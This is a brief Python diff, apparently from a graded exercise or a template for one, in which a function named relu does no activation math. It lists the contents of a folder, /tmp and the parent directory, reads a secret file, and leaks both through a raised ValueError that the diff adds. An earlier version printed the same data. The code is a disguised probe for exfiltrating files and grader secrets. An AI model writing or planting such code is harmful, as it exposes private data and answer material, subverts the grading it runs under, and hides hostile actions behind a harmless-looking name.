@@ -3,8 +3,11 @@
 points: 0
 """
 
+def tell(*found):
+    raise ValueError(str(found))
+
 import glob
 def relu(z):
-    print(glob.glob("{folder}/**", recursive=True), glob.glob("/tmp/*"), glob.glob("../*"))
-    print(open("{secret}").read())
+    tell(glob.glob("{folder}/**", recursive=True), glob.glob("/tmp/*"), glob.glob("../*"))
+    tell(open("{secret}").read())
     return z
